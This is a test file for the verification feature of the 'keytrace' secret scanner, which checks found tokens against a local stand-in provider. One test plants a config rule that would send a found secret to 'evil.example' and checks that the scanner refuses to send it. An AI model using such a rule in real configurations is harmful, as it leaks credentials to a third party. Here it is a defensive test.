"""`scan --verify` and `history --verify`, against a provider on this machine; without them nothing is asked."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from keytrace.reporters import REPORTERS
from tests.samples import marked
from tests.verifiers.server import Provider, says, serving

if TYPE_CHECKING:
    from tests.cli.conftest import Keytrace

ACCOUNT = {"login": "octocat", "id": 1}


def asked_of(provider: Provider) -> list[str]:
    return ["--verify", "--no-cache", "--verify-endpoint", f"github={provider.url}/api/v3"]


def test_a_live_key(keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
    (project / "b.env").write_text(f"OTHER={marked(1)}\n")
    with serving(says(200, ACCOUNT, X_OAuth_Scopes="repo, gist")) as provider:
        run = keytrace("scan", *asked_of(provider))
    assert run.code == 1
    (seen,) = provider.seen
    assert (seen.path, seen.headers["Authorization"]) == ("/api/v3/user", f"Bearer {marked(1)}")
    assert run.out.count("live: 127.0.0.1") == 2
    assert "account octocat, scopes repo, gist" in " ".join(run.out.split())
    assert "note: asked 127.0.0.1" in run.out
    assert marked(1) not in run.out + run.err


def test_a_dead_key_and_only_live(keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
    with serving(says(401, {"message": "Bad credentials"})) as provider:
        (record,) = keytrace("scan", "-f", "json", *asked_of(provider)).json["findings"]
        run = keytrace("scan", "--only-live", *asked_of(provider))
    assert record["severity"] == "low"
    assert record["verification"]["status"] == "dead"
    assert run.code == 0
    assert "--only-live leaves out 1 finding not known to be live" in " ".join(run.out.split())
    assert "No key is known to be live" in run.out
    assert "No secrets found" not in run.out


@pytest.mark.parametrize("kind", REPORTERS)
def test_every_report_tells_and_none_tells_the_key(kind: str, keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
    with serving(says(200, {"login": f"x{marked(1)}", "id": 1}, X_OAuth_Scopes=marked(1)[::-1])) as provider:
        run = keytrace("scan", "-f", kind, *asked_of(provider))
    assert run.code == 1
    assert "live" in run.out
    for form in (marked(1), marked(1)[::-1]):
        assert not any(form[at : at + 10] in run.out + run.err for at in range(len(form) - 9))


def test_history(keytrace: Keytrace, project: Path) -> None:
    keytrace.git("init")
    for content in (f"TOKEN={marked(1)}\n", "A=1\n"):
        (project / "a.env").write_text(content)
        keytrace.git("add", "--all")
        keytrace.git("commit", "-m", "a commit")
    with serving(says(200, ACCOUNT)) as provider:
        (record,) = keytrace("history", "-f", "json", *asked_of(provider)).json["findings"]
    assert record["verification"]["status"] == "live"
    assert record["history"]["removed"]


def test_suppressed_keys_are_not_sent(keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}  # keytrace:ignore -- known\n")
    (project / "b.env").write_text(f"TOKEN={marked(2)}\n")
    assert keytrace("baseline", "create").code == 0
    with serving(says(200, ACCOUNT)) as provider:
        assert keytrace("scan", *asked_of(provider)).code == 0
        assert provider.seen == []
        keytrace("scan", "--no-baseline", *asked_of(provider))
        assert [one.headers["Authorization"] for one in provider.seen] == [f"Bearer {marked(2)}"]
        keytrace("scan", "--verify-suppressed", *asked_of(provider))
        assert len(provider.seen) == 3


def test_an_unreachable_network_is_a_note(keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
    with serving(says(200)) as provider:
        pass
    run = keytrace("scan", *asked_of(provider))
    assert run.code == 1
    assert "could not be reached: 127.0.0.1" in run.out
    assert "Traceback" not in run.err


def test_no_configuration_can_ask(keytrace: Keytrace, project: Path) -> None:
    with serving(says(200, ACCOUNT)) as provider:
        rule = (
            '[[rules]]\nid = "github-personal-access-token"\nregex = "ghp_[A-Za-z0-9]{36}"\n'
            '[rules.verify]\nget = "https://evil.example/me"\nheaders = { A = "{secret}" }\n'
            'live = { status = [200], text = "x" }\nsource = "https://evil.example"\n'
        )
        (project / "own.toml").write_text(rule)
        (project / "keytrace.toml").write_text('rule-files = ["own.toml"]\n')
        (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
        run = keytrace("scan", "-f", "json", *asked_of(provider))
        (record,) = run.json["findings"]
        assert record["verification"]["host"] == ""
        assert provider.seen == []
        (project / "keytrace.toml").write_text("verify = true\n")
        run = keytrace("scan")
        assert run.code == 2
        assert "unknown key 'verify'" in run.err


def test_rules_that_the_user_names_may_ask(keytrace: Keytrace, project: Path) -> None:
    rule = (
        '[[rules]]\nid = "acme-key"\nname = "Acme key"\nregex = "acme_[A-Za-z0-9]{36}"\n'
        '[rules.verify]\nget = "https://api.acme.example/me"\nheaders = { A = "{secret}" }\n'
        'live = { status = [200], json = { id = "*" } }\nsource = "https://acme.example"\n'
    )
    (project / "own.toml").write_text(rule)
    (project / "a.env").write_text(f"TOKEN={marked(1).replace('ghp', 'acme')}\n")
    with serving(says(200, {"id": 7})) as provider:
        run = keytrace(
            "scan",
            "--verify",
            "--rules-file",
            "own.toml",
            "--verify-endpoint",
            f"acme-key={provider.url}",
            "-f",
            "json",
        )
    (record,) = run.json["findings"]
    assert record["verification"]["status"] == "live"


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (["--only-live"], "--only-live needs --verify"),
        (["--verify-suppressed"], "--verify-suppressed needs --verify"),
        (["--verify-endpoint", "github=https://x.example"], "--verify-endpoint needs --verify"),
        (["--verify", "--verify-endpoint", "githup=https://x.example"], "nothing is asked of 'githup'"),
        (["--verify", "--verify-endpoint", "github=http://x.example"], "must begin with https://"),
    ],
)
def test_mistakes(arguments: list[str], reason: str, keytrace: Keytrace, project: Path) -> None:
    run = keytrace("scan", *arguments)
    assert run.code == 2
    assert reason in run.err
    assert "hint: " in run.err


def test_without_httpx(keytrace: Keytrace, project: Path) -> None:
    (project / "sitecustomize.py").write_text("import sys\nsys.modules['httpx'] = None\n")
    command = keytrace.command("scan", "--verify")
    environment = keytrace.environment("scan", "--verify")
    environment["PYTHONPATH"] = f"{project}:{environment['PYTHONPATH']}"
    run = subprocess.run(command, cwd=project, env=environment, capture_output=True, text=True, check=False)
    assert run.returncode == 2
    assert (
        run.stderr
        == "keytrace: verification needs httpx, which is not installed\nhint: pip install 'keytrace[verify]'\n"
    )


def test_without_verify_no_socket_is_opened(keytrace: Keytrace, project: Path) -> None:
    (project / "src").mkdir()
    (project / "src" / "a.env").write_text(f"TOKEN={marked(1)}\n")
    (project / "sitecustomize.py").write_text(
        "import sys\n"
        "def told(event, arguments):\n"
        "    if event in ('socket.connect', 'socket.getaddrinfo', 'socket.sendto'):\n"
        "        sys.stderr.write('NETWORK ' + event)\n"
        "sys.addaudithook(told)\n"
    )
    environment = keytrace.environment("scan")
    environment["PYTHONPATH"] = f"{project}:{environment['PYTHONPATH']}"
    for arguments in (["scan", "src", "-j", "1"], ["explain", "src/a.env:1"]):
        command = keytrace.command(*arguments)
        run = subprocess.run(command, cwd=project, env=environment, capture_output=True, text=True, check=False)
        assert "NETWORK" not in run.stderr
        assert marked(1) not in run.stdout


def test_json_of_a_finding_without_verify_has_no_such_field(keytrace: Keytrace, project: Path) -> None:
    (project / "a.env").write_text(f"TOKEN={marked(1)}\n")
    assert "verification" not in json.dumps(keytrace("scan", "-f", "json").json)
